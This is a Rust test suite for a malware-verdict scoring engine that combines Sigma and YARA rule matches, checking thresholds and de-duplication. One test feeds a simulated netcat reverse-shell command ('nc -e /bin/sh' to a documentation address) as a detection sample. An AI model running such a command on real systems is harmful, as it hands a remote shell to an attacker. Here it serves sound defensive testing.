//! What rules of others may and may not do to a verdict.

use types::{Kind, Recording, RuleMatch, Text, Verdict};
use verdict::{MALICIOUS_POINTS, Options, SUSPICIOUS_POINTS, assess};

use crate::trace::{ROOT, Trace};

fn quiet() -> Trace {
    let mut trace = Trace::of("/usr/bin/true", &["true"]);
    trace.exit(ROOT);
    trace
}

fn sigma(rule: &str, level: &str, technique: &str, events: &[u64]) -> RuleMatch {
    RuleMatch {
        rule: rule.to_owned(),
        title: rule.to_owned(),
        level: level.to_owned(),
        techniques: vec![technique.to_owned()],
        events: events.to_vec(),
    }
}

fn yara(trace: &mut Trace, rule: &str, level: &str, technique: &str) {
    trace.event(
        ROOT,
        Kind::PatternMatch {
            rule: rule.to_owned(),
            title: rule.to_owned(),
            place: "file".to_owned(),
            target: Text::from("/tmp/x"),
            level: level.to_owned(),
            techniques: vec![technique.to_owned()],
            offset: 0,
        },
    );
}

fn points(recording: &Recording) -> u32 {
    let assessment = assess(recording, &Options::default());
    let sum: u32 = assessment.contributions.iter().map(|part| part.points).sum();
    assert_eq!(sum, assessment.score);
    assert!(assessment.detections.iter().all(|detection| !detection.events.is_empty()));
    assessment.score
}

#[test]
fn one_rule_never_convicts_and_a_weak_one_never_suspects() {
    let score = |level: &str| {
        let mut one = quiet().recording;
        one.matches.push(sigma("r", level, "T1105", &[1]));
        let mut trace = quiet();
        yara(&mut trace, "r", level, "T1105");
        let (one, other) = (points(&one), points(&trace.recording));
        assert_eq!(one, other, "{level}");
        one
    };
    assert_eq!(score("informational"), 0);
    assert_eq!(score("whatever"), 0);
    assert!(score("low") > 0 && score("low") < score("medium"));
    assert!(score("medium") < SUSPICIOUS_POINTS);
    assert!((SUSPICIOUS_POINTS..MALICIOUS_POINTS).contains(&score("high")));
    assert!((SUSPICIOUS_POINTS..MALICIOUS_POINTS).contains(&score("critical")));
}

#[test]
fn many_weak_rules_never_suspect_and_two_strong_ones_convict() {
    let mut trace = quiet();
    for number in 0..200 {
        yara(&mut trace, &format!("y{number}"), "medium", &format!("T{}", 2000 + number));
        let rule = sigma(&format!("s{number}"), "low", &format!("T{}", 3000 + number), &[1]);
        trace.recording.matches.push(rule);
    }
    let weak = points(&trace.recording);
    assert!(weak > 0 && weak < SUSPICIOUS_POINTS, "{weak}");
    let mut trace = quiet();
    yara(&mut trace, "a", "critical", "T1105");
    yara(&mut trace, "b", "critical", "T1486");
    let assessment = assess(&trace.recording, &Options::default());
    assert_eq!(assessment.verdict, Verdict::Malicious);
    assert_eq!(assessment.detections[0].detector, "yara:a");
    assert_eq!(assessment.detections[0].technique.name, "Ingress Tool Transfer");
}

#[test]
fn what_is_said_again_does_not_stack() {
    // The same technique, also under another sub-technique.
    let mut twice = quiet().recording;
    twice.matches.push(sigma("a", "high", "T1059.004", &[1]));
    let once = points(&twice);
    twice.matches.push(sigma("b", "high", "T1059.006", &[2]));
    assert_eq!(points(&twice), once);
    // The same event, whatever it is called.
    let mut twice = quiet().recording;
    twice.matches.push(sigma("a", "high", "T1059", &[1]));
    twice.matches.push(sigma("b", "high", "T1105", &[1]));
    assert_eq!(points(&twice), once);
    // What a detector says of the same events.
    let mut shell = Trace::new();
    let child = shell.spawn(ROOT, "/usr/bin/nc", &["nc", "-e", "/bin/sh", "192.0.2.1", "4444"]);
    shell.exit(child);
    let native = points(&shell.recording);
    assert!(native >= SUSPICIOUS_POINTS);
    let exec = shell.recording.events.iter().rfind(|e| e.kind.name() == "exec").unwrap().id;
    shell.recording.matches.push(sigma("a", "high", "T1059.004", &[exec]));
    let both = assess(&shell.recording, &Options::default());
    assert_eq!(both.score, native);
    assert!(both.detections.iter().any(|detection| detection.detector == "sigma:a"));
}

#[test]
fn a_recording_that_names_what_is_not_there_is_read_all_the_same() {
    let mut odd = quiet().recording;
    odd.matches.push(sigma("none", "critical", "T1105", &[]));
    odd.matches.push(sigma("far", "critical", "T1105", &[0, 99, u64::MAX]));
    odd.matches.push(RuleMatch { techniques: Vec::new(), ..sigma("\u{1b}[2J", "low", "", &[1]) });
    let assessment = assess(&odd, &Options::default());
    assert_eq!(assessment.detections.len(), 1);
    assert!(!assessment.detections[0].detector.contains('\u{1b}'));
    assert_eq!(assessment, assess(&odd, &Options::default()));
}
